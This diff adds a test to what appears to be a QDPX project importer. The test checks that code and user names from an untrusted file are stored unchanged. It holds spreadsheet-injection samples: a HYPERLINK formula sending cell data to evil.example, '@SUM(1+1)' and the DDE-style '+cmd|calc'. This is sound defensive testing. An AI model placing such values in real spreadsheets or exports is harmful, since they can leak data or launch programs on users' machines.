@@ -559,3 +559,20 @@ def test_exports_with_memos_cases_and_the_machine_user_validate_against_the_sche
         assert root.find(_q("Description")) is not None and root.find(_q("NoteRef")) is not None
         assert any(n.get("plainTextPath") for n in root.iter(_q("Note")))
         assert any(s.find(_q("Description")) is not None for s in root.iter(_q("PlainTextSelection")))
+
+
+def test_names_from_a_strangers_file_are_kept_verbatim_as_data(tmp_path: Path) -> None:
+    """A code named like a spreadsheet formula stays those characters in the store (the sheet
+    and CSV writers neutralise them on the way out; the id made from it is plain)."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    codes = "<CodeBook><Codes>" + _code("c2000000-0000-4000-8000-000000000001", formula.replace('"', "&quot;")
+                                        .replace("&A1", "&amp;A1"), "@SUM(1+1)") + "</Codes></CodeBook>"
+    users = f'<Users><User guid="{USER}" name="+cmd|calc"/></Users>'
+    sels = _selections([(3, 8)]).replace(CODE_A, "c2000000-0000-4000-8000-000000000001")
+    path = qdpx(tmp_path / "evil.qdpx", project_xml(sels, codes=codes, users=users),
+                {f"sources/{SOURCE}.txt": "I: Hello there, how are you?\n"})
+    with Project.open(tmp_path / "p.db", create=True) as project:
+        import_qdpx(project, path)
+        assert [tuple(r) for r in project.query("SELECT id, label, definition FROM codes")] == \
+            [("hyperlink_http_evil_example_x_a1_click", formula, "@SUM(1+1)")]
+        assert [r[0] for r in project.query("SELECT coder FROM codings WHERE coder IS NOT NULL")] == ["+cmd|calc"]
